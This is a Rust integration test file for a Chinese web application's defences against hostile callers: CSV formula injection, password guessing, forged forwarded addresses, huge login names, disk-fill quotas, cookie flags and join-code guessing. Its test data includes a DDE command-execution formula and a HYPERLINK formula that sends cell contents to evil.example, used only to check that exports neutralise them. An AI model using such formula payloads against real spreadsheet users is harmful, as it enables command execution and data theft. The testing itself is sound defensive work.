//! Hostile callers (issue 21): formulas in CSV exports, password guessing from one address or
//! many, forged forwarded addresses, huge login names, anonymous disk fill, cookies that are
//! never `Secure`, and guessing join codes.

use crate::helpers::{
    PASSWORD, Session, TestApp, curation_app, curation_app_with, fresh_app, fresh_app_with,
};
use serde_json::{Value, json};
use std::time::{Duration, Instant};

const EVIL_NAME: &str = "=cmd|' /C calc'!A0";
const HYPERLINK: &str = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点击查看\")";
/// What makes Excel or LibreOffice read a cell as a formula.
const TRIGGERS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

fn csv_rows(bytes: &[u8]) -> Vec<Vec<String>> {
    let text = std::str::from_utf8(bytes).expect("UTF-8");
    let text = text
        .strip_prefix('\u{feff}')
        .expect("a byte-order mark for Excel");
    csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(text.as_bytes())
        .records()
        .map(|r| r.unwrap().iter().map(String::from).collect())
        .collect()
}

/// Every cell of a CSV export, checked: none may start a formula.
fn assert_no_formula(what: &str, bytes: &[u8]) -> Vec<String> {
    let cells: Vec<String> = csv_rows(bytes).into_iter().flatten().collect();
    assert!(!cells.is_empty(), "{what} is empty");
    for c in &cells {
        assert!(
            !c.starts_with(TRIGGERS),
            "{what}: the cell {c:?} starts a formula"
        );
    }
    cells
}

async fn bytes(app: &TestApp, path: &str) -> Vec<u8> {
    let r = app.get(path).await;
    assert_eq!(r.status(), 200, "{path}");
    r.bytes().await.unwrap().to_vec()
}

/// A new draft through the API; its id and its JSON.
async fn new_draft(app: &TestApp, name: &str) -> (String, Value) {
    let (s, body) = post_json(
        app,
        "/api/v1/drafts",
        json!({ "project_name": name, "description": "新建城市道路 3 公里" }),
    )
    .await;
    assert_eq!(s, 201, "{body}");
    (
        body["id"].as_str().unwrap().to_string(),
        body["draft"].clone(),
    )
}

async fn post_json(app: &TestApp, path: &str, body: Value) -> (u16, Value) {
    let r = app
        .client
        .post(app.url(path))
        .json(&body)
        .send()
        .await
        .unwrap();
    (r.status().as_u16(), r.json().await.unwrap_or(Value::Null))
}

async fn put_draft(app: &TestApp, id: &str, draft: &Value) -> (u16, Value) {
    let r = app
        .client
        .put(app.url(&format!("/api/v1/drafts/{id}")))
        .json(&json!({ "project": draft["project"], "rows": draft["rows"] }))
        .send()
        .await
        .unwrap();
    (r.status().as_u16(), r.json().await.unwrap_or(Value::Null))
}

#[tokio::test]
async fn draft_exports_neutralise_formulas_in_every_cell() {
    let app = fresh_app();
    let (id, mut d) = new_draft(&app, EVIL_NAME).await;
    d["rows"][0]["target"] = json!(HYPERLINK);
    d["rows"][0]["unit"] = json!("@SUM(A1:A9)");
    d["rows"][1]["target"] = json!("-5");
    d["rows"][1]["explanation"] = json!("+3%");
    d["rows"][2]["explanation"] = json!("\t=1+1");
    let (s, body) = put_draft(&app, &id, &d).await;
    assert_eq!(s, 200, "{body}");

    let cells = assert_no_formula(
        "the draft CSV",
        &bytes(&app, &format!("/drafts/{id}/export.csv")).await,
    );
    for shown in [
        format!("'{EVIL_NAME}"),
        format!("'{HYPERLINK}"),
        "'-5".into(),
        "'+3%".into(),
        "'@SUM(A1:A9)".into(),
    ] {
        assert!(cells.contains(&shown), "{shown} is kept as text");
    }

    // The workbook holds the same texts as strings: rust_xlsxwriter's write_string never
    // writes a formula, so nothing needs escaping there.
    use calamine::Reader;
    let xlsx = bytes(&app, &format!("/drafts/{id}/export.xlsx")).await;
    let mut book: calamine::Xlsx<_> =
        calamine::open_workbook_from_rs(std::io::Cursor::new(xlsx)).unwrap();
    let sheet = book.sheet_names()[0].clone();
    let formulas = book.worksheet_formula(&sheet).unwrap();
    assert!(
        formulas.used_cells().all(|(_, _, f)| f.is_empty()),
        "no formula in the workbook"
    );
    let range = book.worksheet_range(&sheet).unwrap();
    assert!(
        range
            .used_cells()
            .any(|(_, _, c)| *c == calamine::Data::String(HYPERLINK.into())),
        "the text as it was typed"
    );
}

#[tokio::test]
async fn the_audit_csv_and_the_templates_neutralise_formulas() {
    let app = curation_app();
    let r = app
        .client
        .post(app.url("/api/v1/session"))
        .json(&json!({ "name": EVIL_NAME, "password": "whatever-it-is" }))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 401);
    let admin = Session::login(&app, "admin").await;
    let r = admin
        .client
        .get(app.url("/api/v1/audit?format=csv"))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200);
    let cells = assert_no_formula("the audit CSV", &r.bytes().await.unwrap());
    assert!(cells.contains(&format!("'{EVIL_NAME}")), "{cells:?}");

    for path in ["/import/template.csv", "/evaluations/template.csv"] {
        assert_no_formula(path, &bytes(&app, path).await);
    }
}

/// The library CSV neutralises the direction `=` (and any formula) and the bulk import reads
/// it back unchanged: exporting and re-importing the library changes nothing.
#[tokio::test]
async fn the_library_csv_export_is_neutralised_and_imports_back_unchanged() {
    let app = curation_app();
    let inds = app.app.store.indicators().unwrap();
    assert!(
        inds.iter().any(|i| i.direction.label() == "="),
        "the fixture has a direction that would be a formula"
    );
    let mut csv = Vec::new();
    zhibiao::ingest::export::csv(&mut csv, &inds, &app.app.search.catalog()).unwrap();
    let cells = assert_no_formula("the library CSV", &csv);
    assert!(cells.iter().any(|c| c == "'="));

    let editor = Session::login(&app, "editor").await;
    let (s, r) = editor
        .post_raw("/api/v1/import?dry_run=true&file=library.csv", csv)
        .await;
    assert_eq!(s, 200, "{r}");
    assert_eq!(r["rejected"], 0, "{}", r["rows"]);
    assert_eq!(r["changed"], 0, "{}", r["rows"]);
    assert_eq!(r["created"], 0);
    assert_eq!(r["unchanged"].as_u64(), Some(inds.len() as u64));
}

async fn login(app: &TestApp, name: &str, password: &str, forwarded: Option<&str>) -> (u16, Value) {
    let mut req = app
        .client
        .post(app.url("/api/v1/session"))
        .json(&json!({ "name": name, "password": password }));
    if let Some(f) = forwarded {
        req = req.header("x-forwarded-for", f);
    }
    let r = req.send().await.unwrap();
    (r.status().as_u16(), r.json().await.unwrap_or(Value::Null))
}

#[tokio::test]
async fn another_partys_wrong_passwords_slow_the_owner_but_never_lock_them_out() {
    let app = curation_app_with(|c| {
        c.limits.login_delay = Duration::from_millis(300);
        c.limits.login_max_delay = Duration::from_secs(2);
    });
    // Someone makes five wrong guesses (waiting whenever told to).
    let mut failures = 0;
    while failures < 5 {
        match login(&app, "editor", "wrong password!", None).await {
            (401, _) => failures += 1,
            (429, j) => {
                assert_eq!(j["error"]["code"], "login_throttled", "{j}");
                tokio::time::sleep(Duration::from_millis(100)).await;
            }
            other => panic!("{other:?}"),
        }
    }
    // The owner is asked to wait, then gets in with the right password.
    let (s, j) = login(&app, "editor", PASSWORD, None).await;
    assert_eq!(s, 429, "{j}");
    assert!(
        j["error"]["message"].as_str().unwrap().contains("秒后再试"),
        "{j}"
    );
    let started = Instant::now();
    loop {
        match login(&app, "editor", PASSWORD, None).await {
            (200, _) => break,
            (429, _) if started.elapsed() < Duration::from_secs(10) => {
                tokio::time::sleep(Duration::from_millis(200)).await;
            }
            other => panic!("the owner is locked out: {other:?}"),
        }
    }
    // A success clears the account's delay.
    assert_eq!(login(&app, "editor", "wrong password!", None).await.0, 401);
    assert_eq!(login(&app, "editor", PASSWORD, None).await.0, 200);
}

#[tokio::test]
async fn guesses_sent_at_once_are_counted_before_any_is_checked() {
    let app = curation_app();
    let mut guesses = tokio::task::JoinSet::new();
    for i in 0..12 {
        let (client, url) = (app.client.clone(), app.url("/api/v1/session"));
        guesses.spawn(async move {
            let body = json!({ "name": "editor", "password": format!("guess number {i}") });
            client
                .post(url)
                .json(&body)
                .send()
                .await
                .unwrap()
                .status()
                .as_u16()
        });
    }
    let statuses = guesses.join_all().await;
    let checked = statuses.iter().filter(|s| **s == 401).count();
    assert_eq!(
        checked, 3,
        "only the free attempts are checked: {statuses:?}"
    );
    assert!(statuses.iter().all(|s| *s == 401 || *s == 429));
}

#[tokio::test]
async fn colleagues_behind_one_address_are_not_locked_out_by_its_typos() {
    let app = curation_app();
    for i in 0..25 {
        let (s, j) = login(&app, &format!("colleague{i}"), "typo in it", None).await;
        assert_eq!(s, 401, "{j}");
    }
    assert_eq!(login(&app, "reviewer", PASSWORD, None).await.0, 200);
}

#[tokio::test]
async fn forwarded_addresses_count_only_from_a_trusted_proxy() {
    // Without a trusted proxy a client cannot choose its address by a header.
    let app = curation_app_with(|c| c.limits.login_failures_per_hour = 3);
    for i in 0..3 {
        let forged = format!("203.0.113.{i}");
        let (s, _) = login(&app, &format!("nobody{i}"), "wrong password", Some(&forged)).await;
        assert_eq!(s, 401);
    }
    let (s, j) = login(&app, "editor", PASSWORD, Some("198.51.100.1")).await;
    assert_eq!((s, &j["error"]["code"]), (429, &json!("login_throttled")));
    let audit = app.app.store.audit(0, 100).unwrap();
    assert!(audit.iter().any(|a| a.address == "127.0.0.1"));
    assert!(!audit.iter().any(|a| a.address.starts_with("203.0.113.")));

    // Behind a trusted proxy each forwarded client has its own budget, and the log names it.
    let app = curation_app_with(|c| {
        c.limits.login_failures_per_hour = 3;
        c.limits.trusted_proxies = zhibiao::config::parse_proxies("127.0.0.1,::1").unwrap();
    });
    for _ in 0..3 {
        let (s, _) = login(&app, "nobody", "wrong password", Some("203.0.113.7")).await;
        assert_eq!(s, 401);
    }
    let (s, _) = login(&app, "someone", "wrong password", Some("203.0.113.7")).await;
    assert_eq!(s, 429, "the forwarded client is limited");
    // The client wrote the first hop itself; the proxy added the second.
    let (s, _) = login(&app, "editor", PASSWORD, Some("203.0.113.7, 198.51.100.2")).await;
    assert_eq!(s, 200, "another client behind the same proxy");
    let audit = app.app.store.audit(0, 100).unwrap();
    assert!(audit.iter().any(|a| a.address == "203.0.113.7"));
    assert!(
        audit
            .iter()
            .any(|a| a.address == "198.51.100.2" && a.action == "登录")
    );
}

/// A server child process with a data directory of its own, killed when dropped.
struct Server {
    process: crate::helpers::ServerProcess,
    base: String,
    data: tempfile::TempDir,
}

impl Server {
    fn start(env: &[(&str, &str)]) -> Server {
        let data = tempfile::tempdir().unwrap();
        let process = crate::helpers::ServerProcess::start(data.path(), env);
        Server {
            base: process.base.clone(),
            process,
            data,
        }
    }

    fn rss_mb(&self) -> f64 {
        let status =
            std::fs::read_to_string(format!("/proc/{}/status", self.process.proc.id())).unwrap();
        let kb: f64 = status
            .lines()
            .find_map(|l| l.strip_prefix("VmRSS:"))
            .and_then(|v| v.trim().trim_end_matches("kB").trim().parse().ok())
            .unwrap();
        kb / 1024.0
    }

    /// The store as the server left it, once stopped.
    fn stop(self) -> zhibiao::store::Store {
        drop(self.process); // kills it and waits
        zhibiao::store::Store::open(&self.data.path().join("store"), 8 << 20).unwrap()
    }
}

#[cfg(target_os = "linux")]
#[tokio::test]
async fn ten_megabyte_login_names_are_refused_before_anything_is_kept() {
    let server = Server::start(&[]);
    let client = reqwest::Client::new();
    let url = format!("{}/api/v1/session", server.base);
    // One ordinary failure first, so that what is measured is only the long names.
    let r = client
        .post(&url)
        .json(&json!({ "name": "zhang", "password": "wrong password" }))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 401);
    let before = server.rss_mb();
    let huge = "名".repeat((10 << 20) / 3);
    for i in 0..20 {
        let r = client
            .post(&url)
            .json(&json!({ "name": format!("{huge}{i}"), "password": "wrong password" }))
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), 400);
        let j: Value = r.json().await.unwrap();
        assert_eq!(j["error"]["code"], "login_too_long", "{j}");
    }
    let r = client
        .post(&url)
        .json(&json!({ "name": "zhang", "password": "p".repeat(300) }))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 400, "an over-long password is not hashed");
    let grown = server.rss_mb() - before;
    eprintln!("20 logins with 10 MB names: RSS {before:.0} MB, +{grown:.0} MB");
    // Before the limit: +381 MB and 457 MB of store (every name kept by the limiter and the
    // audit log).
    assert!(grown < 100.0, "RSS grew by {grown:.0} MB");
    let store = server.stop();
    let audited: Vec<_> = store
        .audit(0, 1000)
        .unwrap()
        .into_iter()
        .filter(|a| a.actor != "指标库文件" && !a.actor.starts_with("版本发布"))
        .collect();
    assert_eq!(audited.len(), 1, "only the ordinary failure is audited");
}

#[cfg(target_os = "linux")]
#[tokio::test]
async fn serve_reads_its_settings_from_the_environment() {
    let server = Server::start(&[
        ("ZHIBIAO_SECURE_COOKIES", "1"),
        ("ZHIBIAO_TRUSTED_PROXIES", "127.0.0.1, ::1"),
        ("ZHIBIAO_DRAFT_MAX_ROWS", "3"),
    ]);
    let client = reqwest::Client::new();
    let r = client
        .get(format!("{}/", server.base))
        .send()
        .await
        .unwrap();
    let cookie = r.headers()["set-cookie"].to_str().unwrap().to_string();
    assert!(
        cookie.contains("zb_csrf=") && cookie.contains("; Secure"),
        "{cookie}"
    );

    let r = client
        .post(format!("{}/api/v1/drafts", server.base))
        .json(&json!({ "project_name": "道路建设" }))
        .send()
        .await
        .unwrap();
    let d: Value = r.json().await.unwrap();
    let rows: Vec<Value> = d["draft"]["rows"].as_array().unwrap()[..1]
        .iter()
        .cycle()
        .take(4)
        .cloned()
        .collect();
    let r = client
        .put(format!(
            "{}/api/v1/drafts/{}",
            server.base,
            d["id"].as_str().unwrap()
        ))
        .json(&json!({ "project": d["draft"]["project"], "rows": rows }))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 413);

    let r = client
        .post(format!("{}/api/v1/session", server.base))
        .header("x-forwarded-for", "203.0.113.9")
        .json(&json!({ "name": "zhang", "password": "wrong password" }))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 401);
    let store = server.stop();
    let failed: Vec<_> = store
        .audit(0, 100)
        .unwrap()
        .into_iter()
        .filter(|a| a.action == "登录失败")
        .collect();
    assert_eq!(failed.len(), 1);
    assert_eq!(failed[0].address, "203.0.113.9", "the proxy's client");
}

#[tokio::test]
async fn drafts_have_a_size_quota() {
    let app = fresh_app();
    let (id, d) = new_draft(&app, "道路建设").await;
    let mut big = d.clone();
    let row = d["rows"][0].clone();
    let mut rows = vec![];
    for _ in 0..80 {
        let mut r = row.clone();
        r["explanation"] = json!("长".repeat(2_000));
        rows.push(r);
    }
    big["rows"] = json!(rows);
    let (s, j) = put_draft(&app, &id, &big).await;
    assert_eq!(
        (s, &j["error"]["code"]),
        (413, &json!("draft_too_large")),
        "{j}"
    );
    rows.push(row);
    big["rows"] = json!(rows);
    let (s, j) = put_draft(&app, &id, &big).await;
    assert_eq!(
        (s, &j["error"]["code"]),
        (413, &json!("too_many_rows")),
        "{j}"
    );
    let (_, now) = app.json(&format!("/api/v1/drafts/{id}")).await;
    assert_eq!(now["draft"], d, "nothing was written");
}

#[tokio::test]
async fn new_drafts_are_rate_limited_per_address_and_capped_in_total() {
    let app = fresh_app_with(|c| {
        c.limits.drafts_per_hour = 5;
        c.limits.trusted_proxies = zhibiao::config::parse_proxies("127.0.0.1").unwrap();
    });
    for _ in 0..5 {
        new_draft(&app, "道路建设").await;
    }
    let (s, j) = post_json(
        &app,
        "/api/v1/drafts",
        json!({ "project_name": "道路建设" }),
    )
    .await;
    assert_eq!(
        (s, &j["error"]["code"]),
        (429, &json!("draft_rate_limited")),
        "{j}"
    );
    assert!(j["error"]["message"].as_str().unwrap().contains("后再试"));
    // The page form too, in Chinese.
    let csrf = set_cookie(&app.get("/drafts/new").await, "zb_csrf");
    let csrf = csrf.split(';').next().unwrap();
    let r = app
        .client
        .post(app.url("/drafts"))
        .header("cookie", csrf)
        .form(&[
            ("project_name", "道路建设"),
            ("csrf", &csrf["zb_csrf=".len()..]),
        ])
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 429);
    assert!(r.text().await.unwrap().contains("新建草稿过于频繁"));
    // Another client behind the proxy is not affected.
    let r = app
        .client
        .post(app.url("/api/v1/drafts"))
        .header("x-forwarded-for", "203.0.113.5")
        .json(&json!({ "project_name": "道路建设" }))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 201);

    // All drafts together have a cap; a draft may still shrink when it is reached.
    let app = fresh_app_with(|c| c.limits.drafts_total_bytes = 60_000);
    let mut last = None;
    let refused = loop {
        let (s, j) = post_json(
            &app,
            "/api/v1/drafts",
            json!({ "project_name": "道路建设", "description": "新建城市道路" }),
        )
        .await;
        if s != 201 {
            break (s, j);
        }
        last = Some((j["id"].as_str().unwrap().to_string(), j["draft"].clone()));
        assert!(app.app.store.drafts_bytes().unwrap() <= 60_000);
    };
    assert_eq!(
        (refused.0, &refused.1["error"]["code"]),
        (507, &json!("draft_storage_full")),
        "{}",
        refused.1
    );
    let (id, mut d) = last.expect("some drafts fit");
    d["rows"] = json!([]);
    assert_eq!(put_draft(&app, &id, &d).await.0, 200);
}

#[tokio::test]
async fn a_draft_untouched_past_the_expiry_is_deleted_and_the_page_says_when() {
    let app = fresh_app_with(|c| c.limits.draft_sweep_every = Duration::from_millis(100));
    let (id, _) = new_draft(&app, "道路建设").await;
    let page = app
        .get(&format!("/drafts/{id}"))
        .await
        .text()
        .await
        .unwrap();
    assert!(
        page.contains("草稿 180 天未修改将被删除（最后修改"),
        "{page}"
    );

    // A draft last modified 181 days ago, as the store would hold it.
    let mut old = app.app.store.draft(&id).unwrap().unwrap();
    old.id = "0123456789abcdef0123456789abcdef".into();
    old.updated = chrono::Utc::now() - chrono::Duration::days(181);
    let quota = zhibiao::store::DraftQuota {
        max_bytes: 1 << 20,
        total_bytes: 1 << 30,
    };
    app.app.store.save_draft(&old, &quota).unwrap();
    let started = Instant::now();
    while app.json(&format!("/api/v1/drafts/{}", old.id)).await.0 != 404 {
        assert!(started.elapsed() < Duration::from_secs(10), "never swept");
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    assert_eq!(app.json(&format!("/api/v1/drafts/{id}")).await.0, 200);

    // The expiry is a setting.
    let app = fresh_app_with(|c| {
        c.limits.draft_expiry = Duration::from_secs(1);
        c.limits.draft_sweep_every = Duration::from_millis(100);
    });
    let (id, _) = new_draft(&app, "道路建设").await;
    let started = Instant::now();
    while app.json(&format!("/api/v1/drafts/{id}")).await.0 != 404 {
        assert!(started.elapsed() < Duration::from_secs(10), "never swept");
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
}

fn set_cookie(r: &reqwest::Response, name: &str) -> String {
    r.headers()
        .get_all("set-cookie")
        .iter()
        .filter_map(|v| v.to_str().ok())
        .find(|c| c.starts_with(&format!("{name}=")))
        .unwrap_or_else(|| panic!("no {name} cookie: {} {:?}", r.status(), r.headers()))
        .to_string()
}

fn max_age(cookie: &str) -> i64 {
    cookie
        .split(';')
        .find_map(|p| p.trim().strip_prefix("Max-Age="))
        .and_then(|v| v.parse().ok())
        .expect("a Max-Age")
}

#[tokio::test]
async fn the_csrf_cookie_lives_a_working_day_and_is_renewed_by_each_page() {
    let app = fresh_app();
    let r = app.get("/").await;
    let c = set_cookie(&r, "zb_csrf");
    assert_eq!(max_age(&c), 8 * 3600, "{c}");
    assert!(!c.contains("Secure"), "not asked for");
    let value = c.split(';').next().unwrap().to_string();
    let r = app
        .client
        .get(app.url("/drafts/new"))
        .header("cookie", &value)
        .send()
        .await
        .unwrap();
    let again = set_cookie(&r, "zb_csrf");
    assert_eq!(
        again.split(';').next().unwrap(),
        value,
        "the same token, renewed"
    );
    let r = app
        .client
        .get(app.url("/static/app.css"))
        .header("cookie", &value)
        .send()
        .await
        .unwrap();
    assert!(
        r.headers().get("set-cookie").is_none(),
        "not on cacheable files"
    );
}

#[tokio::test]
async fn every_cookie_is_secure_when_the_setting_is_on() {
    let app = curation_app_with(|c| c.secure_cookies = true);
    let c = set_cookie(&app.get("/login").await, "zb_csrf");
    assert!(c.contains("; Secure"), "{c}");
    let client = reqwest::Client::builder()
        .redirect(reqwest::redirect::Policy::none())
        .build()
        .unwrap();
    let r = client
        .post(app.url("/api/v1/session"))
        .json(&json!({ "name": "editor", "password": PASSWORD }))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200);
    let session = set_cookie(&r, "zb_session");
    assert!(
        session.contains("; Secure") && session.contains("HttpOnly"),
        "{session}"
    );
    assert_eq!(max_age(&session), 8 * 3600);
    let token = session.split(';').next().unwrap().to_string();
    let j: Value = r.json().await.unwrap();
    let r = client
        .post(app.url("/logout"))
        .header("cookie", &token)
        .form(&[("csrf", j["csrf"].as_str().unwrap())])
        .send()
        .await
        .unwrap();
    for name in ["zb_session", "zb_csrf"] {
        let c = set_cookie(&r, name);
        assert!(c.contains("; Secure") && max_age(&c) == 0, "{c}");
    }
}

#[tokio::test]
async fn guessing_join_codes_is_throttled_per_address() {
    let app = fresh_app_with(|c| c.limits.join_failures_per_hour = 10);
    for _ in 0..10 {
        assert_eq!(app.get("/t/go?code=ZZZZZZ").await.status(), 404);
    }
    let r = app.get("/t/go?code=ZZZZZY").await;
    assert_eq!(r.status(), 429);
    let page = r.text().await.unwrap();
    assert!(
        page.contains("练习码输错次数过多") && page.contains("后再试"),
        "{page}"
    );
    assert_eq!(app.get("/t/ZZZZZZ").await.status(), 429);
    let (s, j) = post_json(
        &app,
        "/api/v1/training/exercises/ZZZZZZ/attempts",
        json!({ "project": { "name": "x", "term": "年度" }, "rows": [] }),
    )
    .await;
    assert_eq!(
        (s, &j["error"]["code"]),
        (429, &json!("join_throttled")),
        "{j}"
    );
    assert!(j["error"]["message"].as_str().unwrap().contains("后再试"));
}
